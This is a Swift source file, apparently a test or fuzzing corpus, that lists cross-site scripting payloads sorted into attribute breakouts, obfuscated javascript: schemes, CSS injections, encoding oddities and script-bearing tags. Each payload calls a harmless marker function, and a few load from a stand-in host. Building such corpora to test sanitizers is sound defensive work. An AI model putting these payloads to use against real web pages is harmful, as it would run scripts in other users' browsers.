/// What people fill into forms to get scripts into pages that others see. The code in them calls `hit()`.
enum Payloads {
    static let all: [String] =
        breakouts + schemes + styles + oddities + tags

    private static let breakouts = [
        "\"", "'", "`", "<", ">", "&", "\">", "'>", "\"><script>hit()</script>", "'><script>hit()</script>", "\" onmouseover=\"hit()",
        "' onmouseover='hit()", "\" autofocus onfocus=hit() x=\"", "' autofocus onfocus=hit() x='", "x onerror=hit()", "x/onerror=hit()//",
        "\"/><img src=x onerror=hit()>", "</title><script>hit()</script>", "</style><script>hit()</script>",
        "</script><script>hit()</script>",
        "</textarea><script>hit()</script>", "--><script>hit()</script>", "--!><script>hit()</script>", "]]><script>hit()</script>",
        "<![endif]--><script>hit()</script>", "<!--[if true]><script>hit()</script><![endif]-->", "<!--", "-->", "--!>",
        "<![CDATA[<script>hit()</script>]]>",
        "</a><script>hit()</script>", "&quot;><script>hit()</script>", "&#34; onmouseover=&#34;hit()", "&lt;script&gt;hit()&lt;/script&gt;",
    ]

    private static let schemes = [
        "javascript:hit()", "JaVaScRiPt:hit()", " javascript:hit()", "\tjavascript:hit()", "java\tscript:hit()", "java\nscript:hit()",
        "java\r\nscript:hit()", "\u{1}javascript:hit()", "\u{1F}javascript:hit()", "javascript\u{9}:hit()", "javascript&colon;hit()",
        "javascript&#58;hit()", "javascript&#x3A;hit()", "&#106;avascript:hit()", "java&Tab;script:hit()", "java&NewLine;script:hit()",
        "javascript://e.com/%0Ahit()", "javascript:/*-/*`/*\\`/*'/*\"/**/hit()//", "vbscript:msgbox(1)", "VBSCRIPT:hit()",
        "data:text/html,<script>parent.hit()</script>", "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KCk8L3NjcmlwdD4=",
        "DATA:image/svg+xml,<svg onload=hit()>", "blob:https://e.com/1", "file:///etc/passwd", "view-source:javascript:hit()",
        "feed:javascript:hit()",
        "livescript:hit()", "mocha:hit()", "jar:javascript:hit()!/", "\u{0}javascript:hit()", "java\u{0}script:hit()",
        "\u{FEFF}javascript:hit()",
        "\u{A0}javascript:hit()", "\u{2028}javascript:hit()",
    ]

    private static let styles = [
        "expression(hit())", "red;background:url(javascript:hit())", "red;-moz-binding:url(//e.com/x#y)", "url(javascript:hit())",
        "red}</style><script>hit()</script>", "red} body{background:red", "\\72 ed;x:expression(hit())", "/**/red",
        "red;position:fixed;top:0", "1px;}@import'//e.com';",
        "');background:url('javascript:hit()", "red;behavior:url(x.htc)",
    ]

    private static let oddities = [
        "\u{2028}hit()\u{2029}", "\u{0}\"><script>hit()</script>", "<\u{0}script>hit()</script>", "<script\u{0}>hit()</script>",
        "\u{FFFD}<b>", "\u{202E}<script>",
        "<scr\u{0}ipt>hit()</scr\u{0}ipt>", "＜script＞hit()＜/script＞", "+ADw-script+AD4-hit()+ADw-/script+AD4-", "{{ contact.email }}",
        "{% raw %}<b>{% endraw %}",
        "zqlmark000000z", "%22%3E%3Cscript%3Ehit()%3C/script%3E", String(repeating: "\"><script>hit()</script>", count: 400),
        String(repeating: "A", count: 20_000) + "\" onload=\"hit()", "\\\"><script>hit()</script>", "\r\n\r\n<script>hit()</script>",
    ]

    private static let tags = [
        "<script>hit()</script>", "<SCRIPT SRC=//e.com/x.js></SCRIPT>", "<img src=x onerror=hit()>", "<svg/onload=hit()>",
        "<svg><script>hit()</script></svg>",
        "<iframe srcdoc='<script>parent.hit()</script>'>", "<math><mi xlink:href=\"javascript:hit()\">", "<body onload=hit()>",
        "<details open ontoggle=hit()>",
        "<input autofocus onfocus=hit()>", "<marquee onstart=hit()>", "<base href=\"javascript:hit()//\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:hit()\">",
        "<object data=\"javascript:hit()\">", "<link rel=stylesheet href=\"javascript:hit()\">", "<a href=javascript:hit()>x</a>",
        "<form action=javascript:hit()><button>",
        "<table background=javascript:hit()>", "<x onclick=hit()>", "<!DOCTYPE x>", "<?xml-stylesheet href='javascript:hit()'?>",
        "<template><script>hit()</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">", "<style>@import'javascript:hit()'</style>",
        "<frameset onload=hit()>",
    ]
}
